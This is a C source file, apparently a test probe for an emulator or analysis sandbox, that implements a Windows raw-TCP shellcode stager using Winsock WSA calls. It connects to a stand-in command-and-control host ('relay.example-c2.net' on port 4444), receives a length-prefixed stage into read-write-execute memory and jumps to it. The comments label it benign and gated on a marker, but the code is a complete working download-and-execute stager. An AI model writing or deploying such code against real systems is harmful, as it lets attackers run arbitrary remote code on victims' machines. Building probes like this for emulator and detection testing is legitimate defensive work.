/*
 * stager.c - probe: a raw TCP stager written with Winsock 2's WSA calls (benign, emulator-only;
 * see ../../lineage-common/common.h). getaddrinfo -> WSASocketA -> WSAConnect (7 arguments) ->
 * WSASend of a hello through a WSABUF -> recv(MSG_PEEK) of the 4-byte length (left in the
 * socket), recv(MSG_WAITALL) of it -> WSARecv of the stage through two WSABUFs (its first 16
 * bytes, then the rest) into RWX memory -> called. The stage writes lineage_wsa.txt.
 * Exit codes: 0 ok, 1 no marker, 2 connect, 3 receive, 4 memory, 5 peek consumed.
 */
#include <winsock2.h> /* before common.h's windows.h */
#include <ws2tcpip.h>
#include "common.h"

void Entry(void)
{
    typedef DWORD (WINAPI *stage_t)(struct sc_ctx *);
    static struct sc_ctx ctx;
    static char hello[] = "HELO probe\n";
    WSADATA wsa;
    struct addrinfo hints, *found = 0;
    SOCKET s;
    WSABUF bufs[2];
    DWORD size = 0, peeked = 0, done = 0, flags = 0;
    char *mem;
    int i;

    if (!marker_present())
        ExitProcess(1);
    if (WSAStartup(MAKEWORD(2, 2), &wsa) != 0)
        ExitProcess(2);
    for (i = 0; i < (int)sizeof(hints); i++)
        ((char *)&hints)[i] = 0;
    hints.ai_family = AF_INET;
    hints.ai_socktype = SOCK_STREAM;
    if (getaddrinfo("relay.example-c2.net", "4444", &hints, &found) != 0 || !found)
        ExitProcess(2);
    s = WSASocketA(AF_INET, SOCK_STREAM, IPPROTO_TCP, 0, 0, WSA_FLAG_OVERLAPPED);
    if (s == INVALID_SOCKET)
        ExitProcess(2);
    if (WSAConnect(s, found->ai_addr, (int)found->ai_addrlen, 0, 0, 0, 0) != 0)
        ExitProcess(2);
    freeaddrinfo(found);
    bufs[0].buf = hello;
    bufs[0].len = sizeof(hello) - 1;
    if (WSASend(s, bufs, 1, &done, 0, 0, 0) != 0 || done != sizeof(hello) - 1)
        ExitProcess(2);
    if (recv(s, (char *)&peeked, 4, MSG_PEEK) != 4)
        ExitProcess(3);
    if (recv(s, (char *)&size, 4, MSG_WAITALL) != 4)
        ExitProcess(3);
    if (size != peeked)
        ExitProcess(5);
    if (size <= 16 || size > 0x10000)
        ExitProcess(3);
    mem = (char *)VirtualAlloc(0, size, MEM_COMMIT | MEM_RESERVE, PAGE_EXECUTE_READWRITE);
    if (!mem)
        ExitProcess(4);
    bufs[0].buf = mem;
    bufs[0].len = 16;
    bufs[1].buf = mem + 16;
    bufs[1].len = size - 16;
    flags = MSG_WAITALL;
    if (WSARecv(s, bufs, 2, &done, &flags, 0, 0) != 0 || done != size)
        ExitProcess(3);
    closesocket(s);
    WSACleanup();
    fill_ctx(&ctx, "C:\\Users\\Public\\lineage_wsa.txt", "stage read with WSARecv\n");
    ((stage_t)(void *)mem)(&ctx);
    ExitProcess(0);
}
